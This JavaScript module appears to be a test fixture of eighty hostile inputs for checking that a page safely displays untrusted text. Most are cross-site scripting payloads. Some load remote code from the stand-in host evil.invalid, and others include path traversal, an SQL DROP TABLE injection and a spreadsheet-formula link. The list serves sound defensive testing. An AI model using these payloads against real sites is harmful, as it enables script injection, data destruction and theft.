// Eighty things somebody could type, or put into a file, to have them run or to break the page.

const RUN = 'globalThis.ran=1';

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</ScRiPt>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src=//evil.invalid/x.js></script>`,
  `</script><script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} /></svg>`,
  `<math><script>${RUN}</script></math>`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<p style="animation:x" onanimationstart=${RUN}>`,
  `<a onmouseover=${RUN}>over</a>`,
  `" onfocus=${RUN} autofocus x="`,
  `' onfocus=${RUN} autofocus x='`,
  '` onfocus=' + RUN + ' autofocus x=`',
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\u0000script:${RUN}`,
  `<a href="javascript:${RUN}">here</a>`,
  `<a href="java&#115;cript:${RUN}">here</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="//evil.invalid/">`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<link rel=import href=//evil.invalid/>`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.invalid/x`,
  `#/settings`,
  `mailto:a@b.invalid?bcc=all`,
  `tel:+1%0a2`,
];

const TEMPLATES = [
  '{{constructor.constructor("ran=1")()}}',
  '${globalThis.ran=1}',
  '#{globalThis.ran=1}',
  '<%= ran=1 %>',
  '<template><img src=x onerror=ran=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran=1>',
  '<style>@import "//evil.invalid/x.css";</style>',
  '<div style="background:url(//evil.invalid/x)">',
  '<!--><img src=x onerror=ran=1>-->',
  '<x slot="a" is="b">',
];

const TEXTS = [
  '&lt;b&gt;not bold&lt;/b&gt;',
  '&amp;&quot;&#39;&#x3c;',
  '__proto__',
  'constructor',
  'toString',
  '../../../etc/passwd',
  "'; DROP TABLE openings; --",
  '=HYPERLINK("//evil.invalid","x")',
  '\u202egnp.exe',
  'a\u0300\u0301\u0302\u0303\u0304\u0305',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'مرحبا <b>بالعالم</b>',
  '\\u003cscript\\u003e',
  '\ufeffZero\u200bwidth',
];

/** The eighty. */
export const HOSTILE = [...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...TEMPLATES, ...TEXTS];

/** Text as a page shows it: one space between words, and none around them. */
export const shown = (text) => text.replace(/\s+/g, ' ').trim();
